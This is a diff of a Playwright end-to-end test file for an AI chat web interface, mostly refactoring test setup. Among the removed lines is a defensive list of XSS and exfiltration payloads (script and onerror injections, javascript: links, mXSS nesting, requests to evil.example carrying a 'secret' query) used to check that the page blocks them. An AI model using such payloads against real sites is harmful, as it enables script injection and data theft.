@@ -1,28 +1,11 @@
-import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { existsSync } from 'node:fs'
 import { join } from 'node:path'
-import { fileURLToPath } from 'node:url'
-import { gzipSync } from 'node:zlib'
-import type { Browser, BrowserContextOptions } from 'playwright-core'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { openBrowser, visit, watch } from './browser.ts'
-import { buildPage, card, ended, folded, type Product, say, startProduct } from './product.ts'
+import { describe, expect, test } from 'vitest'
+import { visit, watch } from './browser.ts'
+import { card, ended, eventually, folded, say, setUpProduct, startProduct } from './product.ts'
 
-let browser: Browser
-let product: Product
-
-beforeAll(async () => {
-  buildPage()
-  product = await startProduct()
-  browser = await openBrowser()
-})
-
-afterAll(async () => {
-  await browser?.close()
-  await product?.stop()
-})
-
-const open = (path = '/', options: BrowserContextOptions = {}) => visit(browser, product.url + path, options)
-const workspace = (file: string): string => join(product.folder, 'data/workspace', file)
+const { browser, open, product } = setUpProduct()
+const workspace = (file: string): string => join(product().folder, 'data/workspace', file)
 
 describe('a conversation', () => {
   test('the first card shows a tool call and an answer, and a reload shows the same', async () => {
@@ -35,7 +18,7 @@ describe('a conversation', () => {
     expect(before).toContain('README.md')
     await page.reload()
     await ended(page)
-    await expect.poll(() => page.locator('.thread-rows').innerText()).toBe(before)
+    await eventually(() => page.locator('.thread-rows').innerText()).toBe(before)
     expect(problems).toEqual([])
     await page.context().close()
   })
@@ -60,9 +43,9 @@ describe('a conversation', () => {
     await waiting.locator('[data-tw-part="view-full"]').waitFor()
     expect((await waiting.innerText()).length).toBeLessThan(60_000)
     await waiting.locator('[data-tw-part="view-full"]').click()
-    await expect.poll(() => page.locator('dialog[open] [data-tw-part="output"]').count()).toBeGreaterThan(10)
+    await eventually(() => page.locator('dialog[open] [data-tw-part="output"]').count()).toBeGreaterThan(10)
     await page.keyboard.press('Escape')
-    expect(await page.locator('dialog [data-tw-part="output"]').count()).toBe(0)
+    await eventually(() => page.locator('dialog [data-tw-part="output"]').count()).toBe(0)
     // As one line of JSON, which no browser can lay out, it must not hang the page either.
     await say(page, 'never mind')
     await ended(page)
@@ -73,7 +56,7 @@ describe('a conversation', () => {
 
   test('a long session opens at its end and draws only what is in sight', async () => {
     const post = (path: string, body: object) =>
-      fetch(product.url + path, {
+      fetch(product().url + path, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
         body: JSON.stringify(body),
@@ -87,11 +70,11 @@ describe('a conversation', () => {
     expect(await page.locator('.row').count()).toBeLessThan(60)
     const end = () =>
       page.locator('.thread').evaluate(box => box.scrollHeight - box.scrollTop - box.clientHeight)
-    await expect.poll(end).toBeLessThan(5)
+    await eventually(end).toBeLessThan(5)
     await page.locator('.thread').evaluate(box => box.scrollTo(0, 0))
     await page.locator('[data-tw-part="message"][data-role="user"]').first().waitFor()
     await page.locator('.to-end').click()
-    await expect.poll(end).toBeLessThan(5)
+    await eventually(end).toBeLessThan(5)
     await page.context().close()
   })
 
@@ -116,6 +99,10 @@ describe('a conversation', () => {
 
   test('an Enter that belongs to an input method sends nothing', async () => {
     const { page } = await open()
+    const sent: string[] = []
+    page.on('request', request => {
+      if (request.method() === 'POST') sent.push(request.url())
+    })
     const box = page.locator('[data-tw-part="composer-box"] textarea')
     await box.fill('你好')
     await box.evaluate(area => {
@@ -123,8 +110,9 @@ describe('a conversation', () => {
       area.dispatchEvent(new KeyboardEvent('keydown', { ...press, isComposing: true }))
       area.dispatchEvent(new KeyboardEvent('keydown', { ...press, keyCode: 229 }))
     })
+    expect(await page.locator('[data-tw-part="composer"]').getAttribute('data-busy')).toBe('false')
     expect(await box.inputValue()).toBe('你好')
-    expect(new URL(page.url()).pathname).toBe('/')
+    expect(sent).toEqual([])
     await box.press('Enter')
     await page.waitForURL('**/sessions/*')
     await page.context().close()
@@ -186,7 +174,7 @@ describe('approvals', () => {
   test('a question survives reload and a killed server, and an answer in one tab reaches the other', async () => {
     const own = await startProduct()
     try {
-      const { page } = await visit(browser, own.url)
+      const { page } = await visit(browser(), own.url)
       await say(page, '/ask')
       await card(page, 'awaiting_approval').waitFor()
       await page.reload()
@@ -208,10 +196,10 @@ describe('approvals', () => {
     const { page } = await open()
     await say(page, 'run `touch from-inbox.txt`')
     await card(page, 'awaiting_approval').waitFor()
-    await page.goto(`${product.url}/inbox`)
+    await page.goto(`${product().url}/inbox`)
     const waiting = page.locator('.inbox-session', { hasText: 'from-inbox' })
     await waiting.locator('[data-tw-part="allow-once"]').click()
-    await expect.poll(() => existsSync(workspace('from-inbox.txt'))).toBe(true)
+    await eventually(() => existsSync(workspace('from-inbox.txt'))).toBe(true)
     await waiting.waitFor({ state: 'detached' })
     await page.context().close()
   })
@@ -229,16 +217,16 @@ describe('sessions', () => {
     const item = page.locator('.session-item', { hasText: 'Lighthouse' })
     await item.waitFor()
     await page.locator('#session-search').fill('lighthouse')
-    await expect.poll(() => page.locator('.session-item').count()).toBe(1)
+    await eventually(() => page.locator('.session-item').count()).toBe(1)
     await page.locator('[data-tw-part="turn-actions"] [data-tw-part="quiet-button"]').click()
     await page.waitForURL(url => url.href !== first)
     await ended(page)
-    await expect.poll(() => page.locator('.session-item').count()).toBe(2)
+    await eventually(() => page.locator('.session-item').count()).toBe(2)
     page.on('dialog', dialog => void dialog.accept())
     await page.locator('.session-item[data-current="true"] .icon-button').click()
     await page.locator('.menu:popover-open .danger').click()
-    await page.waitForURL(`${product.url}/`)
-    await expect.poll(() => page.locator('.session-item').count()).toBe(1)
+    await page.waitForURL(`${product().url}/`)
+    await eventually(() => page.locator('.session-item').count()).toBe(1)
     await page.context().close()
   })
 
@@ -279,176 +267,12 @@ describe('language', () => {
       [...document.fonts].some(font => font.family.includes('Noto Sans SC') && font.status === 'loaded'),
     )
     expect(loaded).toBe(true)
-    await page.goto(`${product.url}/settings`)
+    await page.goto(`${product().url}/settings`)
     await page.locator('.segments label', { hasText: '繁體中文' }).click()
     expect(await page.locator('html').getAttribute('lang')).toBe('zh-Hant')
     expect(await page.locator('h1').innerText()).toBe('設定')
     await page.context().close()
   })
-})
-
-/** Attempts to run code, to load something from elsewhere, or to leave the page. */
-const PAYLOADS = [
-  '<script>window.pwned=1</script>',
-  '<img src=x onerror="window.pwned=1">',
-  '<svg onload="window.pwned=1"><circle/></svg>',
-  '[click](javascript:window.pwned=1)',
-  '[click](data:text/html,<script>window.pwned=1</script>)',
-  '![x](https://evil.example/p.png?q=secret)',
-  '![x](javascript:window.pwned=1)',
-  '<iframe src="https://evil.example"></iframe>',
-  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
-  '<form action="https://evil.example"><button>go</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '`${window.pwned=1}` <details open ontoggle="window.pwned=1">x</details>',
-]
-
-describe('what models and tools write', () => {
-  test('never runs, loads or leaves', async () => {
-    const { page, problems } = await open()
-    const requests: string[] = []
-    page.on('request', request => requests.push(new URL(request.url()).host))
-    await say(page, '/think')
-    await ended(page)
-    let n = 1
-    for (const payload of PAYLOADS) {
-      await say(page, payload)
-      await ended(page, ++n)
-    }
-    await say(page, `run \`printf '%s' '<img src=x onerror=window.pwned=1>' '\\033[31mred'\``)
-    await page
-      .locator('[data-tw-part="allow-once"]')
-      .or(page.locator('[data-row="end"] >> [data-tw-part="turn-footer"]').nth(n))
-      .first()
-      .waitFor()
-    if (await page.locator('[data-tw-part="allow-once"]').count())
-      await page.locator('[data-tw-part="allow-once"]').click()
-    await ended(page, ++n)
-    await page.locator('[data-tool="Bash"] [data-tw-part="tool-header"]').last().click()
-    for (const link of await page.locator('.thread [data-tw-part="link"]').all())
-      expect(new URL((await link.getAttribute('href')) ?? '').protocol).toMatch(/^https?:$/)
-    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
-    expect(await page.locator('.thread :is(script, iframe, form, style, meta)').count()).toBe(0)
-    expect(await page.locator('.thread img').count()).toBe(0)
-    expect(new Set(requests)).toEqual(new Set([new URL(product.url).host]))
-    expect(new URL(page.url()).host).toBe(new URL(product.url).host)
-    expect(problems).toEqual([])
-    await page.context().close()
-  })
-
-  test('the policy refuses inline code even when something is put into the page', async () => {
-    const { page } = await open()
-    const ran = await page.evaluate(async () => {
-      const script = document.createElement('script')
-      try {
-        script.textContent = 'window.pwned = 1'
-        document.body.append(script)
-        document.body.innerHTML += '<img src=x onerror="window.pwned=1">'
-      } catch {}
-      await new Promise(done => setTimeout(done, 200))
-      return 'pwned' in window
-    })
-    expect(ran).toBe(false)
-    await page.context().close()
-  })
-
-  test('a link names its host, and an image from elsewhere waits for consent', async () => {
-    const { page } = await open()
-    await say(page, 'see [the docs](https://docs.example/a) and ![chart](https://pics.example/c.png)')
-    await ended(page)
-    const answer = page.locator('[data-role="assistant"]')
-    expect(await answer.locator('[data-tw-part="link-host"]').first().innerText()).toBe('docs.example')
-    expect(await answer.locator('[data-tw-part="image-gate"]').first().innerText()).toContain('pics.example')
-    await page.context().close()
-  })
-})
-
-describe('everybody can use it', () => {
-  const axe = readFileSync(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8')
-  const screens: readonly (readonly [string, BrowserContextOptions])[] = [
-    ['light', { colorScheme: 'light' }],
-    ['dark', { colorScheme: 'dark' }],
-    ['phone', { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }],
-  ]
-  test.each(screens)('no serious problem is found (%s)', async (_name, options) => {
-    // The policy of the page would refuse the checker itself.
-    const { page } = await open('/', { ...options, bypassCSP: true })
-    const found: string[] = []
-    const check = async (screen: string) => {
-      await page.evaluate(axe)
-      const serious = await page.evaluate(async () => {
-        const { axe: checker } = window as unknown as { axe: typeof import('axe-core') }
-        const { violations } = await checker.run(document)
-        return violations
-          .filter(({ impact }) => impact === 'serious' || impact === 'critical')
-          .map(
-            ({ id, nodes }) =>
-              `${id}: ${nodes
-                .map(node => node.html)
-                .slice(0, 3)
-                .join(' ')}`,
-          )
-      })
-      found.push(...serious.map(text => `${screen}: ${text}`))
-    }
-    await page.locator('.card').first().waitFor()
-    await check('home')
-    await say(page, '/markdown')
-    await ended(page)
-    await say(page, '/ask')
-    await card(page, 'awaiting_approval').waitFor()
-    await check('chat')
-    await card(page, 'awaiting_approval').locator('[data-tw-part="deny"]').click()
-    await check('deny')
-    await page.goto(page.url().replace(/(\/trace)?$/, '/trace'))
-    await page.locator('.timeline li').first().waitFor()
-    await check('trace')
-    for (const path of ['inbox', 'tools', 'settings']) {
-      await page.goto(`${product.url}/${path}`)
-      await page.locator('h1').waitFor()
-      await check(path)
-    }
-    expect(found).toEqual([])
-    await page.context().close()
-  })
-
-  test('boundaries are announced, streamed text is not', async () => {
-    const { page } = await open()
-    await say(page, 'what time is it')
-    await ended(page)
-    await say(page, '/ask')
-    await card(page, 'awaiting_approval').waitFor()
-    await expect
-      .poll(() => page.locator('[data-tw-part="announcer"][role="alert"]').innerText())
-      .toContain('needs your approval')
-    expect(await page.locator('.thread').getAttribute('aria-live')).toBe('off')
-    await page.context().close()
-  })
-
-  test('nothing moves for those who asked for it', async () => {
-    const { page } = await open('/', { reducedMotion: 'reduce' })
-    await say(page, '/slow 60')
-    await page.locator('[data-tw-part="stop"]').waitFor()
-    const moving = await page.evaluate(
-      () => document.getAnimations().filter(animation => animation.playState === 'running').length,
-    )
-    expect(moving).toBe(0)
-    await page.locator('[data-tw-part="stop"]').click()
-    await page.context().close()
-  })
-})
-
-test('the first load stays within 200 kB', () => {
-  const dist = fileURLToPath(new URL('../dist', import.meta.url))
-  const html = readFileSync(join(dist, 'index.html'), 'utf8')
-  const first = readdirSync(join(dist, 'assets')).filter(name => html.includes(name))
-  const sizes = [html, ...first.map(name => readFileSync(join(dist, 'assets', name)))].map(
-    body => gzipSync(body).length,
-  )
-  expect(first.length).toBeGreaterThan(1)
-  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(200_000)
 })
 
 test('two tabs on one session show the same', async () => {
@@ -464,7 +288,7 @@ test('two tabs on one session show the same', async () => {
   await ended(page, 2)
   await ended(other, 2)
   const text = (shown: typeof page) => shown.locator('.thread-rows').innerText()
-  await expect.poll(async () => (await text(page)) === (await text(other))).toBe(true)
+  await eventually(async () => (await text(page)) === (await text(other))).toBe(true)
   expect(problems).toEqual([])
   await page.context().close()
 })
